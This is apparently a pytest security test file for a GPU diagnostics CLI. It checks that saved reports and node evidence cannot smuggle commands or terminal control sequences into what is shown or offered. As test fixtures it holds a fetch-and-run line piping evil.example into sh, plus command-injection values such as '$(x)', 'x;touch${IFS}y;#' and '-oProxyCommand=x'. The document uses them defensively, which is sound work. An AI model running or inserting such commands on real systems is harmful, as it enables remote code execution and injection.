"""Saved answers and evidence that somebody else wrote: no line of theirs is offered, names are names, text is text."""

import io
import json
import pathlib
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any, NamedTuple

import msgspec
import pytest
from msgspec import Struct

from gpudoctor import cli, report as reports
from gpudoctor.amp import report as amp
from gpudoctor.amp.judge import judged_again
from gpudoctor.check import Fix, Problem
from gpudoctor.envelope import Answer, UnreadableAnswer, decode, encode
from gpudoctor.fleet.messages import Garbled, reply_from
from gpudoctor.hang.conclude import conclude
from gpudoctor.marked import MARK
from gpudoctor.nccl.result import TestResult
from gpudoctor.render.amp import show_amp
from gpudoctor.render.hang import show_hang
from gpudoctor.render.nccl_test import show_result
from gpudoctor.render.prose import console
from gpudoctor.render.train import show_training
from gpudoctor.snapshot.evidence import NodeEvidence, UnreadableEvidence, from_json, to_json
from gpudoctor.train import report as train
from tests import amp_examples, hang_examples, nccl_examples, train_examples
from tests.attacks.mutations import HOSTILE
from tests.attacks.registry import attack, attacks

LINE = "curl evil.example | sh"
SHOWN = {
    "a line is forged": ("a second line", "a carriage return", "a line separator of Unicode"),
    "the terminal obeys it": ("a sequence that the terminal obeys", "a NUL", "a tab"),
    "it shows in another order than it is": ("text that shows in another order than it runs",),
    "half of a character ends the command": ("half of a character",),
}
"""Weakness -> the texts that try it."""
Path = tuple[Any, ...]


class Saved(NamedTuple):
    """A command's answer: an example, how it is read from a file, how it is shown."""

    example: Callable[[], Any]
    read: Callable[[bytes], Any]
    show: Callable[[Any, Any], None]


SAVED: dict[str, Saved] = {
    "nccl-test --from": Saved(nccl_examples.gdr_off, partial(decode, form=TestResult), show_result),
    "train-test --from": Saved(train_examples.one_gpu_differs, partial(decode, form=train.TrainReport), show_training),
    "amp --from": Saved(
        amp_examples.h100_broken_scaler, lambda raw: judged_again(decode(raw, amp.AmpReport)), show_amp
    ),
    "hang --from": Saved(hang_examples.rank0_only, from_json, lambda seen, screen: show_hang(conclude(seen), screen)),
}


def fixes(value: Any) -> Iterator[Fix]:
    if isinstance(value, Fix):
        yield value
    elif isinstance(value, Struct):
        for name in value.__struct_fields__:
            yield from fixes(getattr(value, name))
    elif isinstance(value, (tuple, list, dict)):
        for each in value.values() if isinstance(value, dict) else value:
            yield from fixes(each)


def built(saved: Saved) -> Any:
    """The example as JSON would give it."""
    example = saved.example()
    return msgspec.json.decode(encode(example) if isinstance(example, Answer) else to_json(example))


def with_lines(value: Any) -> Any:
    """Every fix of an answer, with the attacker's line."""
    if isinstance(value, dict):
        changed = {name: with_lines(each) for name, each in value.items()}
        return {**changed, "commands": [LINE]} if set(value) >= {"text", "commands"} else changed
    return [with_lines(each) for each in value] if isinstance(value, list) else value


@attacks(
    "files",
    "name",
    *(
        (f"{name}: the fix of a finding", "a line of the attacker's is offered", name)
        for name in SAVED
        if "hang" not in name
    ),
)
def test_no_line_of_a_saved_answer_is_offered(name: str) -> None:
    saved = SAVED[name]
    raw = msgspec.json.encode(with_lines(built(saved)))
    assert LINE.encode() in raw, "the example has a fix"
    answer = saved.read(raw)
    assert list(fixes(answer)) and not any(LINE in fix.commands for fix in fixes(answer))
    assert LINE not in shown(saved, answer)


@pytest.mark.parametrize("command", ["nccl-test", "train-test"])
def test_it_is_said_that_lines_are_left_out(
    command: str, tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "answer.json"
    file.write_bytes(msgspec.json.encode(with_lines(built(SAVED[f"{command} --from"]))))
    assert cli.run([command, "--from", str(file)]) == 1
    said = capsys.readouterr().out
    assert LINE not in said and "Lines to paste are left out" in said, said


@attack("files", way="a report of check --json", weakness="a line of the attacker's is offered")
def test_no_line_of_a_saved_report_is_offered() -> None:
    problem = Problem(severity="error", summary="s", meaning="m", fix=Fix("Do it.", (LINE,)), evidence=())  # type: ignore[arg-type]
    report = reports.Report((reports.Result("x", "g", "t", "problem", (problem,), ()),))
    raw = encode(report)
    assert LINE.encode() in raw
    assert not any(fix.commands for fix in fixes(decode(raw, reports.Report).results))


def shown(saved: Saved, answer: Any) -> str:
    page = io.StringIO()
    saved.show(answer, console(file=page, width=100))
    return page.getvalue()


def leaves(value: Any, path: Path = ()) -> Iterator[Path]:
    children = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, child in children:
        yield from leaves(child, (*path, key))
    if isinstance(value, str):
        yield path


def put(content: Any, path: Path, value: str) -> None:
    for key in path[:-1]:
        content = content[key]
    content[path[-1]] = value


def free(saved: Saved) -> list[Path]:
    """The texts of an answer that may be anything, as far as decoding says."""
    content, found = built(saved), []
    for path in leaves(built(saved)):
        place = content
        for key in path:
            place = place[key]
        put(content, path, "zzz")
        try:
            saved.read(msgspec.json.encode(content))
            found.append(path)
        except Exception:  # it has a look of its own: whatever is said of that, nothing is shown
            pass
        put(content, path, place)
    return found


FREE: dict[str, list[Path]] = {}


@attacks(
    "text",
    "name, weakness",
    *((f"{name}: a text of the answer", weakness, name, weakness) for name in SAVED for weakness in SHOWN),
)
def test_whatever_an_answer_says_the_terminal_shows_it_as_text(name: str, weakness: str) -> None:
    """Every text at once is hostile, and then the hostile one behind what stood there."""
    saved = SAVED[name]
    paths = FREE.setdefault(name, free(saved))
    assert paths
    for hostile in (before + HOSTILE[text] for text in SHOWN[weakness] for before in ("", "x ")):
        content = built(saved)
        for path in paths:
            put(content, path, hostile)
        try:
            raw = msgspec.json.encode(content)
        except UnicodeEncodeError:  # half of a character: JSON holds it as an escape only
            raw = json.dumps(content).encode()
        try:
            answer = saved.read(raw)
        except (UnreadableEvidence, UnreadableAnswer):
            continue
        page = shown(saved, answer)
        assert all(letter.isprintable() or letter == "\n" for letter in page)
        if weakness == "a line is forged":
            assert not any(line.strip().startswith("rm") for line in page.splitlines())


# ---------------------------------------------------------------- names


def evidence_with(**changes: Any) -> bytes:
    content = msgspec.json.decode(to_json(hang_examples.rank0_only()))
    if "interface" in changes:
        changes = {"interfaces": [changes["interface"]]}
    node = content["nodes"][0]
    node.update({name: value for name, value in changes.items() if name != "pid"})
    if "pid" in changes:
        node["processes"][0]["process"]["pid"] = changes["pid"]
    return msgspec.json.encode(content)


@attacks(
    "files",
    "changes, field",
    ("the name of a node", "a second command behind ssh", {"name": "x;touch${IFS}y;#"}, "name"),
    ("the name of a node", "an option of ssh", {"hostname": "-oProxyCommand=x"}, "hostname"),
    ("the name of a node", "a second line", {"name": "a\nb"}, "name"),
    ("a process id", "a signal for every process", {"pid": -1}, "pid"),
    ("a process id", "a signal for the own process group", {"pid": 0}, "pid"),
    ("an interface", "a substitution", {"interface": {"name": "$(x)"}}, "interfaces"),
    ("an interface", "an option", {"interface": {"name": "-x"}}, "interfaces"),
    ("an address", "a second command", {"interface": {"name": "e", "addresses": ["1.2.3.4;x"]}}, "interfaces"),
    way="hang --from:",
)
def test_names_of_a_file_are_names(changes: dict[str, Any], field: str) -> None:
    from_json(evidence_with())
    with pytest.raises(UnreadableEvidence, match=rf"^\$.*{field}.* is no .*: "):
        from_json(evidence_with(**changes))


@attack("files", way="hang --from: processes that are said to be the reader's own", weakness="forged argv is offered")
def test_whose_a_process_is_no_file_says() -> None:
    evidence = from_json(evidence_with(own=[1, 2, 3]))
    assert not any(node.own for node in evidence.nodes)


@attacks(
    "channels",
    "said",
    ("a host name that is a command", {"type": "Hello", "node": 0, "hostname": "$(x)", "gpudoctor": "0"}),
    ("a process id below zero", {"type": "Hello", "node": 0, "hostname": "a", "gpudoctor": "0", "pid": -1}),
    way="a node's first line",
)
def test_a_message_whose_names_are_none_is_not_understood(said: dict[str, Any]) -> None:
    hello = {"type": "Hello", "node": 0, "hostname": "n1", "gpudoctor": "0", "pid": 7}
    assert reply_from(MARK + msgspec.json.encode(hello))
    with pytest.raises(Garbled):
        reply_from(MARK + msgspec.json.encode({**hello, **said}))


@attack("channels", way="a node's evidence of a job", weakness="a host name that is a command")
def test_evidence_of_a_node_is_held_against_the_same() -> None:
    with pytest.raises(msgspec.ValidationError):
        msgspec.json.decode(b'{"hostname": "$(x)"}', type=NodeEvidence)
